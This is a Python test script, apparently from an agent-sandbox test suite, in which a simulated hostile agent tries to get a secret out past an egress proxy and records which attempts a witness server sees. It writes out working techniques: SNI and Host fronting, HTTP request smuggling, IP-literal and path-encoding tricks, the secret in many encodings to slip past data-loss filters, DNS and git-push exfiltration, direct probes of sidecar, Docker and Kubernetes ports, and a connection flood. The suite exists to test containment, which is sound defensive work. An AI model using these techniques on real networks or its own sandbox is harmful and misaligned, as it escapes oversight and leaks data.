# A hostile agent inside the bottle: tries every way out it knows, one attack at a time, and
# prints one JSON line per attack: its name, the marker it carried (the witness upstream must
# never record it, except for the controls), what the agent saw, and what the suite expects
# ("seen": a control that must arrive; "unseen": the witness records nothing of it; "blocked":
# nothing listens to record, so the agent must not even connect).
# usage: python3 attacker.py '{"secret": ..., "witness_ip": ...}'
import base64, binascii, gzip, json, os, socket, ssl, subprocess, sys, time, urllib.parse, zlib

cfg = json.loads(sys.argv[1])
SECRET = cfg['secret']
WITNESS_IP = cfg['witness_ip']
proxy = urllib.parse.urlsplit(os.environ['HTTPS_PROXY'])
PROXY = (proxy.hostname, proxy.port)
CA = os.environ['SSL_CERT_FILE']
ALLOWED = 'api.example.test'
BLOCKED = 'other.example.test'
T = 4


def emit(name, marker, observed, expect='unseen'):
    print(json.dumps({'name': name, 'marker': marker, 'observed': str(observed)[:300],
                      'expect': expect}), flush=True)


def status_of(data):
    line = data.split(b'\r\n', 1)[0].decode('latin-1')
    return line or 'no response'


def recv_all(s, limit=1 << 20):
    out = b''
    try:
        while len(out) < limit:
            chunk = s.recv(65536)
            if not chunk:
                break
            out += chunk
            if b'\r\n\r\n' in out and len(out) > 0:
                # Enough to read the status; keep reading briefly for pipelined answers.
                s.settimeout(0.5)
    except (socket.timeout, OSError):
        pass
    return out


def tunnel(target, port=443):
    s = socket.create_connection(PROXY, timeout=T)
    s.sendall(f'CONNECT {target}:{port} HTTP/1.1\r\nHost: {target}:{port}\r\n\r\n'.encode())
    head = b''
    while b'\r\n\r\n' not in head:
        chunk = s.recv(4096)
        if not chunk:
            break
        head += chunk
    return s, status_of(head)


def tls(s, sni, alpn=None):
    c = ssl.create_default_context(cafile=CA)
    c.check_hostname = False
    if alpn:
        c.set_alpn_protocols(alpn)
    return c.wrap_socket(s, server_hostname=sni)


def bumped(raw_request, target=ALLOWED, sni=ALLOWED):
    """Sends raw bytes inside a bumped TLS tunnel to `target`; returns the status line(s)."""
    try:
        s, st = tunnel(target)
        if not st.split(' ')[1:2] == ['200']:
            return f'CONNECT {st}'
        t = tls(s, sni)
        t.settimeout(T)
        t.sendall(raw_request)
        data = recv_all(t)
        lines = [l for l in data.split(b'\r\n') if l.startswith(b'HTTP/')]
        return ' | '.join(l.decode('latin-1') for l in lines) or 'no response'
    except Exception as e:
        return f'{type(e).__name__}: {e}'


def get(path, host=ALLOWED, extra=b''):
    return (f'GET {path} HTTP/1.1\r\nHost: {host}\r\n'.encode() + extra +
            b'Connection: close\r\n\r\n')


def post(path, body, extra=b'', host=ALLOWED, close=True):
    return (f'POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(body)}\r\n'.encode()
            + extra + (b'Connection: close\r\n' if close else b'') + b'\r\n' + body)


def curl(*args):
    r = subprocess.run(['curl', '-sS', '-m', str(T), '-o', '/dev/null', '-w', '%{http_code}',
                        *args], capture_output=True, text=True)
    return (r.stdout + ' ' + r.stderr.strip()).strip()


def connect_direct(ip, port, payload, udp=False):
    try:
        if udp:
            s = socket.socket(socket.AF_INET6 if ':' in ip else socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(1)
            s.sendto(payload, (ip, port))
            try:
                return f'udp reply {s.recv(512)!r}'
            except socket.timeout:
                return 'udp sent, no reply'
        s = socket.create_connection((ip, port), timeout=2)
        s.sendall(payload)
        return 'connected'
    except Exception as e:
        return f'{type(e).__name__}: {e}'


# --- The control: a legitimate request must reach the witness, or nothing below proves anything.
emit('control', 'atk-control', bumped(get('/allowed/atk-control')), 'seen')
emit('control-curl', 'atk-control-curl',
     curl(f'https://{ALLOWED}/allowed/atk-control-curl'), 'seen')

# --- Fronting: a permitted name on one layer, another name on the next.
emit('connect-blocked-host', 'atk-connect-blocked',
     bumped(get('/allowed/atk-connect-blocked', host=BLOCKED), target=BLOCKED, sni=BLOCKED))
emit('sni-fronting', 'atk-sni-front', bumped(get('/allowed/atk-sni-front', host=BLOCKED), sni=BLOCKED))
emit('host-fronting', 'atk-host-front', bumped(get('/allowed/atk-host-front', host=BLOCKED)))
emit('absolute-form-fronting', 'atk-absolute',
     bumped(f'GET https://{BLOCKED}/allowed/atk-absolute HTTP/1.1\r\nHost: {ALLOWED}\r\n'
            'Connection: close\r\n\r\n'.encode()))
emit('duplicate-host', 'atk-dup-host',
     bumped(f'GET /allowed/atk-dup-host HTTP/1.1\r\nHost: {ALLOWED}\r\nHost: {BLOCKED}\r\n'
            'Connection: close\r\n\r\n'.encode()))
emit('h2-authority-fronting', 'atk-h2-authority',
     curl('--http2', '-H', f'Host: {BLOCKED}', f'https://{ALLOWED}/allowed/atk-h2-authority'))
emit('plain-http-proxying', 'atk-plain-http', curl(f'http://{ALLOWED}/allowed/atk-plain-http'))
# A TLS hello reaching the witness's port 8080 (it speaks no TLS) is the failure.
try:
    s, st = tunnel(ALLOWED, 8080)
    if ' 200' in st:
        t = tls(s, ALLOWED)
        t.settimeout(T)
        t.sendall(get('/allowed/atk-port-8080'))
        st += ' then ' + status_of(recv_all(t))
    emit('connect-other-port', 'tcp port 8080 \x16', st)
except Exception as e:
    emit('connect-other-port', 'tcp port 8080 \x16', e)

# --- IP literals, every spelling of the witness's address and of loopback.
a, b, c, d = (int(x) for x in WITNESS_IP.split('.'))
n = (a << 24) | (b << 16) | (c << 8) | d
spellings = {
    'dotted': WITNESS_IP, 'decimal': str(n), 'hex': hex(n), 'octal': f'0{a:o}.0{b:o}.0{c:o}.0{d:o}',
    'short': f'{a}.{(b << 16) | (c << 8) | d}', 'mapped': f'[::ffff:{WITNESS_IP}]',
    'loopback': '127.0.0.1', 'loopback6': '[::1]', 'zero': '0.0.0.0',
}
for name, host in spellings.items():
    marker = f'atk-ip-{name}'
    emit(f'ip-literal-connect-{name}', marker,
         bumped(get(f'/allowed/{marker}', host=host), target=host, sni=host))
    emit(f'ip-literal-http-{name}', marker + '-http', curl(f'http://{host}/allowed/{marker}-http'))

# --- Paths: dot segments and encodings that mean something else upstream.
for name, path in {
    'dot-segment': '/allowed/../atk-dot',
    'encoded-dots': '/allowed/%2e%2e/atk-dot-enc',
    'encoded-slash': '/allowed/..%2Fatk-slash-enc',
    'backslash': '/allowed/..\\atk-backslash',
    'encoded-backslash': '/allowed/..%5Catk-backslash-enc',
    'nul': '/allowed/atk-nul%00/../../x',
    'non-utf8': '/allowed/%ff%fe/../../atk-non-utf8',
}.items():
    marker = path.rsplit('/', 1)[-1] if name not in ('nul', 'non-utf8') else (
        'atk-nul' if name == 'nul' else 'atk-non-utf8')
    emit(f'path-{name}', marker, bumped(get(path)))
emit('path-outside-prefix', 'atk-outside', bumped(get('/atk-outside')))
# Encoded once more, a dot segment is only a name: it stays under /allowed/, forwarded verbatim.
emit('path-double-encoded-verbatim', '/allowed/%252e%252e/atk-double-enc ',
     bumped(get('/allowed/%252e%252e/atk-double-enc')), 'seen')

# --- Smuggling: ambiguous framing that would hide a second request for the blocked host.
smuggled = f'GET /allowed/atk-smuggle-{{}} HTTP/1.1\r\nHost: {BLOCKED}\r\n\r\n'
body = ('0\r\n\r\n' + smuggled.format('clte')).encode()
emit('smuggle-cl-te', 'atk-smuggle-clte', bumped(
    post('/allowed/outer-clte', body, b'Transfer-Encoding: chunked\r\n', close=False)))
body = ('0\r\n\r\n' + smuggled.format('tete')).encode()
emit('smuggle-te-te', 'atk-smuggle-tete', bumped(
    f'POST /allowed/outer-tete HTTP/1.1\r\nHost: {ALLOWED}\r\nTransfer-Encoding: chunked\r\n'
    f'Transfer-Encoding: xchunked\r\nContent-Length: {len(body)}\r\n\r\n'.encode() + body))
inner = smuggled.format('tecl').encode()
chunked = f'{len(inner):x}\r\n'.encode() + inner + b'\r\n0\r\n\r\n'
emit('smuggle-te-cl', 'atk-smuggle-tecl', bumped(
    f'POST /allowed/outer-tecl HTTP/1.1\r\nHost: {ALLOWED}\r\nContent-Length: 4\r\n'
    'Transfer-Encoding: chunked\r\n\r\n'.encode() + chunked))
emit('smuggle-te-space', 'atk-smuggle-tespace', bumped(
    f'POST /allowed/outer-tespace HTTP/1.1\r\nHost: {ALLOWED}\r\nTransfer-Encoding : chunked\r\n'
    f'Content-Length: 5\r\n\r\n0\r\n\r\n'.encode() + smuggled.format('tespace').encode()))
emit('smuggle-two-lengths', 'atk-smuggle-twocl', bumped(
    f'POST /allowed/outer-twocl HTTP/1.1\r\nHost: {ALLOWED}\r\nContent-Length: 0\r\n'
    f'Content-Length: 60\r\n\r\n'.encode() + smuggled.format('twocl').encode()))
emit('pipelined-blocked-host', 'atk-smuggle-pipe', bumped(
    f'GET /allowed/pipe-first HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n'.encode()
    + smuggled.format('pipe').encode()))

# --- The bottle's secret in every encoding DLP decodes, in body, query and header.
sb = SECRET.encode()
encodings = {
    'raw': sb,
    'pct-dash': SECRET.replace('-', '%2D').encode(),
    'pct-all': ''.join(f'%{x:02X}' for x in sb).encode(),
    'pct-lower': ''.join(f'%{x:02x}' for x in sb).encode(),
    'json-u': json.dumps({'k': ''.join(f'\\u{x:04x}' for x in sb)}).replace('\\\\', '\\').encode(),
    'hex-lower': binascii.hexlify(sb),
    'hex-upper': binascii.hexlify(sb).upper(),
}
for shift in range(3):
    encodings[f'base64-align{shift}'] = base64.b64encode(b'x' * shift + sb)
    encodings[f'base64url-align{shift}'] = base64.urlsafe_b64encode(b'~?' * shift + sb)
for name, data in encodings.items():
    emit(f'dlp-body-{name}', f'atk-dlp-body-{name}',
         bumped(post(f'/allowed/atk-dlp-body-{name}', b'note=' + data)))
    emit(f'dlp-query-{name}', f'atk-dlp-query-{name}',
         bumped(get(f'/allowed/atk-dlp-query-{name}?q=' + urllib.parse.quote(data.decode('latin-1'), safe='%'))))
    emit(f'dlp-header-{name}', f'atk-dlp-header-{name}',
         bumped(get(f'/allowed/atk-dlp-header-{name}', extra=b'X-Note: ' + data.replace(b'\n', b'') + b'\r\n')))
for name, data in {'gzip': gzip.compress(b'note=' + sb),
                   'deflate': zlib.compress(b'note=' + sb)}.items():
    emit(f'dlp-content-encoding-{name}', f'atk-dlp-ce-{name}', bumped(
        post(f'/allowed/atk-dlp-ce-{name}', data, f'Content-Encoding: {name}\r\n'.encode())))
chunks = b''.join(f'{1:x}\r\n'.encode() + bytes([x]) + b'\r\n' for x in sb) + b'0\r\n\r\n'
emit('dlp-one-byte-chunks', 'atk-dlp-chunks', bumped(
    f'POST /allowed/atk-dlp-chunks HTTP/1.1\r\nHost: {ALLOWED}\r\nTransfer-Encoding: chunked\r\n'
    'Connection: close\r\n\r\n'.encode() + chunks))

# --- DNS over HTTPS through an allowed host.
q = base64.urlsafe_b64encode(b'\x00\x00\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03atk\x00\x00\x01\x00\x01').rstrip(b'=').decode()
emit('doh-get', 'atk-doh-get', bumped(get(f'/allowed/dns-query?dns={q}&m=atk-doh-get',
                                        extra=b'Accept: application/dns-message\r\n')))
emit('doh-post', 'atk-doh-post', bumped(post('/allowed/atk-doh-post', b'\x00\x00\x01\x00',
                                             b'Content-Type: application/dns-message\r\n')))

# --- Raw bytes through a tunnel instead of TLS.
try:
    s, st = tunnel(ALLOWED)
    s.sendall(b'atk-raw-tunnel plain bytes\r\n\r\n')
    emit('raw-bytes-in-tunnel', 'atk-raw-tunnel', f'{st} then {status_of(recv_all(s)) or "closed"}')
except Exception as e:
    emit('raw-bytes-in-tunnel', 'atk-raw-tunnel', e)

# --- git: push is never relayed; fetch only where a route allows it.
git_env = dict(os.environ, GIT_TERMINAL_PROMPT='0', GIT_SSL_CAINFO=CA, GIT_AUTHOR_NAME='a',
               GIT_AUTHOR_EMAIL='a@a', GIT_COMMITTER_NAME='a', GIT_COMMITTER_EMAIL='a@a')
repo = '/tmp/atk-repo'
subprocess.run(['git', 'init', '-q', repo], check=True, env=git_env)
with open(f'{repo}/leak.txt', 'w') as f:
    f.write(SECRET)
subprocess.run(['git', '-C', repo, 'add', '.'], check=True, env=git_env)
subprocess.run(['git', '-C', repo, 'commit', '-qm', 'leak'], check=True, env=git_env)
for name, argv in {
    'git-push': ['git', 'push', f'https://{ALLOWED}/allowed/atk-git-push.git', 'HEAD:main'],
    'git-fetch-without-consent': ['git', 'ls-remote', f'https://{ALLOWED}/allowed/atk-git-fetch.git'],
    'git-protocol-direct': ['git', 'ls-remote', f'git://{WITNESS_IP}/atk-git-proto'],
    'git-ssh-direct': ['git', 'ls-remote', f'ssh://git@{WITNESS_IP}/atk-git-ssh'],
}.items():
    r = subprocess.run(['timeout', '10', *argv], capture_output=True, text=True, env=git_env,
                       cwd=repo)
    # ssh sends its banner before any path: reaching the witness's port 22 at all is the failure.
    marker = {'git-push': 'atk-git-push', 'git-ssh-direct': 'tcp port 22 SSH-'}.get(
        name, argv[-1].rsplit('/', 1)[-1].replace('.git', ''))
    emit(name, marker, f'exit {r.returncode}: {r.stderr.strip()[-200:]}')

# --- WebSocket: an upgrade to the blocked host, and the secret in an upgrade's URL.
ws = 'Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n'
emit('websocket-blocked-host', 'atk-ws-blocked', bumped(
    f'GET /allowed/atk-ws-blocked HTTP/1.1\r\nHost: {BLOCKED}\r\n{ws}\r\n'.encode(), target=BLOCKED, sni=BLOCKED))
emit('websocket-secret-in-url', 'atk-ws-secret', bumped(
    f'GET /allowed/atk-ws-secret?t={SECRET} HTTP/1.1\r\nHost: {ALLOWED}\r\n{ws}\r\n'.encode()))

# --- HTTP/2 straight at the proxy port, and with prior knowledge inside the tunnel.
emit('h2-prior-knowledge-in-tunnel', 'atk-h2c', curl('--http2-prior-knowledge', '-H', f'Host: {BLOCKED}',
                                                      f'http://{ALLOWED}/allowed/atk-h2c'))

# --- DNS: names do not resolve; queries sent anywhere reach no resolver outside.
label = 'atk-dns-' + binascii.hexlify(sb[:20]).decode()
try:
    socket.getaddrinfo(f'{label}.example.test', 443)
    emit('dns-resolve', 'atk-dns-resolve', 'resolved', 'blocked')
except Exception as e:
    emit('dns-resolve', 'atk-dns-resolve', e, 'blocked')
query = b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00' + bytes([len(label)]) + label.encode() + b'\x00\x00\x01\x00\x01'
emit('dns-udp-to-witness', label, connect_direct(WITNESS_IP, 53, query, udp=True))
emit('dns-tcp-to-witness', 'atk-dns-tcp', connect_direct(WITNESS_IP, 53, b'atk-dns-tcp'))

# --- Direct connections: the witness, the sidecar's other ports, the network's gateway.
for port in (22, 80, 443, 8080, 9418):
    emit(f'direct-witness-{port}', f'atk-direct-{port}', connect_direct(WITNESS_IP, port, f'atk-direct-{port}'.encode()))
for port in (22, 53, 80, 443, 2375, 6443):
    emit(f'direct-sidecar-{port}', f'atk-sidecar-{port}',
         connect_direct(cfg['sidecar_ip'], port, b'x'), 'blocked')
# git-gate listens on 9420 for the agent; it serves declared repositories and is no proxy.
for name, req in (
    ('git-gate-as-proxy', f'GET http://{BLOCKED}/allowed/atk-gate-proxy HTTP/1.1\r\nHost: {BLOCKED}\r\n\r\n'),
    ('git-gate-connect', f'CONNECT {BLOCKED}:443 HTTP/1.1\r\nHost: {BLOCKED}:443\r\n\r\natk-gate-connect'),
    ('git-gate-undeclared-repo', f'GET /atk-gate-repo.git/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: {BLOCKED}\r\n\r\n'),
):
    marker = {'git-gate-as-proxy': 'atk-gate-proxy', 'git-gate-connect': 'atk-gate-connect',
              'git-gate-undeclared-repo': 'atk-gate-repo'}[name]
    try:
        s = socket.create_connection((cfg['sidecar_ip'], 9420), timeout=3)
        s.sendall(req.encode())
        emit(name, marker, status_of(recv_all(s)))
    except Exception as e:
        emit(name, marker, e)
# The supervise MCP server listens on 9100 for the agent: it queues proposals and is no proxy.
for name, req in (
    ('supervise-as-proxy', f'GET http://{BLOCKED}/allowed/atk-mcp-proxy HTTP/1.1\r\nHost: {BLOCKED}\r\n\r\n'),
    ('supervise-connect', f'CONNECT {BLOCKED}:443 HTTP/1.1\r\nHost: {BLOCKED}:443\r\n\r\natk-mcp-connect'),
    ('supervise-oversized', f'POST /mcp HTTP/1.1\r\nHost: bb-sidecar:9100\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\nContent-Length: {2 << 20}\r\n\r\n' + '{"atk-mcp-big": "' + 'a' * (2 << 20)),
):
    marker = {'supervise-as-proxy': 'atk-mcp-proxy', 'supervise-connect': 'atk-mcp-connect',
              'supervise-oversized': 'atk-mcp-big'}[name]
    try:
        s = socket.create_connection((cfg['sidecar_ip'], 9100), timeout=3)
        s.sendall(req.encode())
        emit(name, marker, status_of(recv_all(s)))
    except Exception as e:
        emit(name, marker, e)
if cfg.get('gateway_ip'):
    for port in (22, 2375, 6443):
        emit(f'direct-gateway-{port}', f'atk-gateway-{port}',
             connect_direct(cfg['gateway_ip'], port, b'x'), 'blocked')

# --- Oversized and malformed input.
emit('huge-header', 'atk-huge-header', bumped(get('/allowed/atk-huge-header', extra=b'X-Big: ' + b'a' * 200000 + b'\r\n')))
emit('huge-url', 'atk-huge-url', bumped(get('/allowed/atk-huge-url?' + 'a' * 100000)))
emit('many-headers', 'atk-many-headers', bumped(get('/allowed/atk-many-headers', extra=b''.join(b'X-%d: y\r\n' % i for i in range(5000)))))
emit('bare-lf', 'atk-bare-lf', bumped(f'GET /allowed/atk-bare-lf HTTP/1.1\nHost: {BLOCKED}\n\n'.encode()))
emit('nul-in-header', 'atk-nul-header', bumped(get('/allowed/atk-nul-header', extra=b'X-A: a\x00b\r\n')))
emit('cr-in-header', 'atk-cr-header', bumped(get('/allowed/atk-cr-header', extra=b'X-A: a\rHost: ' + BLOCKED.encode() + b'\r\n')))
emit('negative-length', 'atk-neg-length', bumped(post('/allowed/atk-neg-length', b'', b'Content-Length: -1\r\n')))
emit('garbage-request-line', 'atk-garbage', bumped(b'\x16\x03\x01atk-garbage \xff\xfe\r\n\r\n'))
try:
    s = socket.create_connection(PROXY, timeout=T)
    s.sendall(b'CONNECT ' + b'a' * 100000 + b'.atk-huge-connect:443 HTTP/1.1\r\n\r\n')
    emit('huge-connect', 'atk-huge-connect', status_of(recv_all(s)))
except Exception as e:
    emit('huge-connect', 'atk-huge-connect', e)

# --- A flood of idle connections, then the control again: the proxy still serves.
held = []
for _ in range(400):
    try:
        held.append(socket.create_connection(PROXY, timeout=2))
    except Exception:
        break
for s in held[::2]:
    try:
        s.sendall(b'CONNECT ')
    except Exception:
        pass
emit('after-flood-control', 'atk-after-flood', f'{len(held)} held; ' + bumped(get('/allowed/atk-after-flood')), 'seen')
for s in held:
    s.close()
time.sleep(1)
emit('done', 'atk-done', 'ok', 'none')
